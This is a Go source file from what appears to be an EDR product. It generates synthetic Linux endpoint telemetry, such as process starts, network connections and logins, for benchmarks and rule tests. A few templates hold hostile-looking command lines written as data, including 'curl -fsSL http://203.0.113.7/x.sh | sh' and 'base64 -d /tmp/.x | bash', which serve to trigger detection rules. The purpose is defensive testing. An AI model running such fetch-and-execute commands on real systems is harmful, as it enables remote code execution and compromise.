// Package simagent simulates endpoint agents for load tests and benchmarks:
// it produces realistic Linux telemetry (process starts with parents, users,
// working directories and command lines, network connections, file changes,
// logins) with the sequence numbering a real agent's spool gives, and marks
// which events should make a rule fire.
//
// It is used by `vigil bench ingest` and by tests; agents never import it.
package simagent

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"time"

	"github.com/vigil-edr/vigil/internal/event"
)

// template is one kind of event the generator emits.
type template struct {
	weight     int
	categories []string
	services   []string
	fields     func(g *Generator) []event.Field
	// suspicious marks events written to trigger common Linux rules (ours and
	// SigmaHQ's); the rest is background noise.
	suspicious bool
}

var (
	catProc = []string{"process_creation"}
	catNet  = []string{"network_connection"}
	catFile = []string{"file_event"}
	svcSSHD = []string{"sshd", "auth", "syslog"}
)

var users = []string{"root", "alice", "bob", "www-data", "postgres", "deploy"}
var dirs = []string{"/", "/root", "/home/alice", "/var/www", "/tmp", "/srv/app"}

func proc(image, cmd, parent, parentCmd string) func(g *Generator) []event.Field {
	return func(g *Generator) []event.Field {
		u := users[g.rnd.IntN(len(users))]
		pid := 1000 + g.rnd.IntN(60000)
		return []event.Field{
			{Name: "Image", Value: image},
			{Name: "CommandLine", Value: cmd},
			{Name: "CurrentDirectory", Value: dirs[g.rnd.IntN(len(dirs))]},
			{Name: "User", Value: u},
			{Name: "LogonId", Value: strconv.Itoa(1000 + g.rnd.IntN(5))},
			{Name: "ProcessId", Value: strconv.Itoa(pid)},
			{Name: "ParentProcessId", Value: strconv.Itoa(pid - 1 - g.rnd.IntN(500))},
			{Name: "ParentImage", Value: parent},
			{Name: "ParentCommandLine", Value: parentCmd},
			{Name: "Hashes", Value: fmt.Sprintf("SHA256=%064x", g.rnd.Uint64())},
			{Name: "Terminal", Value: "pts/" + strconv.Itoa(g.rnd.IntN(4))},
		}
	}
}

var templates = []template{
	{weight: 30, categories: catProc, fields: proc("/usr/bin/ls", "ls -la /var/log", "/usr/bin/bash", "-bash")},
	{weight: 20, categories: catProc, fields: proc("/usr/bin/grep", "grep -r error /var/log/app", "/usr/bin/bash", "bash")},
	{weight: 15, categories: catProc, fields: proc("/usr/bin/python3", "python3 /srv/app/manage.py runjob --queue default", "/usr/lib/systemd/systemd", "/sbin/init")},
	{weight: 10, categories: catProc, fields: proc("/usr/sbin/cron", "/usr/sbin/CRON -f", "/usr/sbin/cron", "/usr/sbin/cron -f")},
	{weight: 10, categories: catProc, fields: proc("/usr/bin/git", "git pull --ff-only origin main", "/usr/bin/bash", "bash deploy.sh")},
	{weight: 8, categories: catNet, fields: func(g *Generator) []event.Field {
		return []event.Field{
			{Name: "Image", Value: "/usr/bin/curl"},
			{Name: "DestinationIp", Value: fmt.Sprintf("93.184.%d.%d", g.rnd.IntN(255), g.rnd.IntN(255))},
			{Name: "DestinationPort", Value: "443"},
			{Name: "SourceIp", Value: "10.0.0.12"},
			{Name: "SourcePort", Value: strconv.Itoa(32768 + g.rnd.IntN(28000))},
			{Name: "Protocol", Value: "tcp"},
			{Name: "Initiated", Value: "true"},
			{Name: "User", Value: users[g.rnd.IntN(len(users))]},
		}
	}},
	{weight: 5, categories: catFile, fields: func(g *Generator) []event.Field {
		return []event.Field{
			{Name: "TargetFilename", Value: fmt.Sprintf("/var/www/uploads/%x.jpg", g.rnd.Uint32())},
			{Name: "Image", Value: "/usr/sbin/nginx"},
			{Name: "User", Value: "www-data"},
		}
	}},
	{weight: 4, services: svcSSHD, fields: func(g *Generator) []event.Field {
		return []event.Field{
			{Name: "Program", Value: "sshd"},
			{Name: "EventType", Value: "ssh_login_success"},
			{Name: "User", Value: "deploy"},
			{Name: "SourceIp", Value: "10.0.0.5"},
			{Name: "AuthMethod", Value: "publickey"},
			{Name: "Message", Value: "Accepted publickey for deploy from 10.0.0.5 port 50022 ssh2"},
		}
	}},
	// Suspicious: each of these is written to match a common Linux rule.
	{weight: 1, suspicious: true, categories: catProc, fields: proc("/usr/bin/curl", "curl -fsSL http://203.0.113.7/x.sh | sh", "/usr/bin/bash", "bash -i")},
	{weight: 1, suspicious: true, categories: catProc, fields: proc("/usr/bin/base64", "base64 -d /tmp/.x | bash", "/usr/bin/bash", "bash")},
	{weight: 1, suspicious: true, categories: catProc, fields: proc("/usr/bin/chmod", "chmod +x /tmp/.hidden/payload", "/usr/bin/bash", "bash")},
	{weight: 1, suspicious: true, categories: catProc, fields: proc("/usr/bin/crontab", "crontab -l", "/usr/bin/bash", "bash")},
}

// Generator produces one agent's events. Not safe for concurrent use.
type Generator struct {
	rnd        *rand.Rand
	next       uint64
	total      int
	suspicious int // percent of events drawn from suspicious templates, 0..100
}

// New returns a generator seeded for reproducibility. suspiciousPercent sets
// how many events (0–100 %) are drawn from the rule-triggering templates.
func New(seed uint64, suspiciousPercent int) *Generator {
	g := &Generator{rnd: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), next: 1, suspicious: suspiciousPercent}
	for _, t := range templates {
		if !t.suspicious {
			g.total += t.weight
		}
	}
	return g
}

// Next fills ev with the next event stamped now and returns its sequence
// number and whether it is one of the suspicious kind.
func (g *Generator) Next(ev *event.Event, now time.Time) (seq uint64, suspicious bool) {
	var t *template
	if g.rnd.IntN(100) < g.suspicious {
		var sus []*template
		for i := range templates {
			if templates[i].suspicious {
				sus = append(sus, &templates[i])
			}
		}
		t = sus[g.rnd.IntN(len(sus))]
	} else {
		n := g.rnd.IntN(g.total)
		for i := range templates {
			if templates[i].suspicious {
				continue
			}
			if n < templates[i].weight {
				t = &templates[i]
				break
			}
			n -= templates[i].weight
		}
	}
	ev.Reset()
	ev.Time = now.UTC()
	ev.Product = "linux"
	ev.Categories = t.categories
	ev.Services = t.services
	for _, f := range t.fields(g) {
		ev.Add(f.Name, f.Value)
	}
	seq = g.next
	g.next++
	ev.Record = seq
	return seq, t.suspicious
}
